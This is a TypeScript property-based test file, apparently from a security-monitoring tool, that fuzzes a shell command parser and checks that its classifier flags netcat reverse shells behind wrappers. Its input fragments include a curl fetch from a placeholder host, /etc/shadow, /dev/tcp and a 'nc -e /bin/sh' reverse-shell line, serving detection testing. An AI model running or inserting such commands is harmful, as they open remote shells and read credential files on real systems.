import { COMMAND_TRAITS } from '@mini-soc/model';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { propertyRuns } from '../../../scripts/property-runs.ts';
import { describeCommand, readScript } from './index.ts';

/** Command lines as people and attackers write them, and anything else. */
const piece = fc.oneof(
  fc.constantFrom(
    ...'sudo|env|sh -c |bash|find . -exec |xargs |nc |curl http://203.0.113.7/x|/etc/shadow|/tmp/.x|eval |ssh web02 |python3 -c |base64 -d'.split(
      '|',
    ),
    ...[
      '|',
      ' | ',
      ';',
      '&&',
      '&',
      '\n',
      ' ',
      '(',
      ')',
      '$(',
      '`',
      '<(',
      "'",
      '"',
      '\\',
      "$'",
      '${IFS}',
      '#040',
      '#012',
    ],
    ...[
      '>',
      '>>',
      '2>&1',
      '<<E',
      '<<<',
      '/dev/tcp/h/1',
      '{',
      '}',
      'if ',
      'then ',
      'done',
      '!',
      'constructor',
      '__proto__',
      '-c',
      '-',
      '=',
    ],
  ),
  fc.string({ unit: 'binary', maxLength: 6 }),
);
const line = fc.array(piece, { maxLength: 40 }).map((parts) => parts.join(''));

describe('describeCommand()', () => {
  it('never throws, and says known words once each', () => {
    fc.assert(
      fc.property(line, (text) => {
        const { programs, traits } = describeCommand(text);
        expect(new Set(programs).size).toBe(programs.length);
        expect(new Set(traits).size).toBe(traits.length);
        expect(traits.filter((trait) => !COMMAND_TRAITS.includes(trait))).toEqual([]);
        expect(programs.length).toBeLessThanOrEqual(32);
        expect(programs.every((name) => name !== '' && name.length <= 64)).toBe(true);
      }),
      { numRuns: propertyRuns(3000) },
    );
  });

  it('finds netcat with a shell behind any wrappers and whatever stands before it', () => {
    const wrapper = fc.constantFrom(
      'sudo',
      'env X=1',
      'nice -n 5',
      'nohup',
      'timeout 5',
      'sudo -u bob --',
      'setsid',
      'busybox',
      'exec',
      'stdbuf -o0',
      'xargs',
    );
    const before = fc.constantFrom(
      '',
      'cd /srv && ',
      'true; ',
      'if true; then ',
      'echo x | ',
      '{ ',
    );
    fc.assert(
      fc.property(
        before,
        fc.array(wrapper, { maxLength: 6 }),
        fc.boolean(),
        (start, wrappers, inShell) => {
          const command = [...wrappers, 'nc -e /bin/sh 203.0.113.7 4'].join(' ');
          const text = inShell ? `${start}sh -c '${command}'` : `${start}${command}`;
          expect(describeCommand(text).traits).toContain('netcat');
          expect(describeCommand(text).programs).toContain('nc');
        },
      ),
      { numRuns: propertyRuns(1000) },
    );
  });
});

describe('readScript()', () => {
  it('gives words in order, within the text, never one over another', () => {
    fc.assert(
      fc.property(line, (text) => {
        for (const command of readScript(text).commands) {
          let end = command.start;
          for (const word of command.words) {
            expect(word.start).toBeGreaterThanOrEqual(end);
            expect(word.end).toBeGreaterThan(word.start);
            expect(word.end).toBeLessThanOrEqual(text.length + 1);
            end = word.end;
          }
        }
      }),
      { numRuns: propertyRuns(3000) },
    );
  });

  it('loses no letter of what has no quotes, brackets and operators', () => {
    fc.assert(
      fc.property(
        fc.array(fc.stringMatching(/^[a-z0-9/._:,%+-]{1,12}$/), { minLength: 1, maxLength: 20 }),
        (all) => {
          const [command] = readScript(all.join(' ')).commands;
          const first = command?.words[0]?.text;
          fc.pre(first === all[0]);
          expect(command?.words.map(({ text }) => text)).toEqual(all);
        },
      ),
      { numRuns: propertyRuns(500) },
    );
  });
});
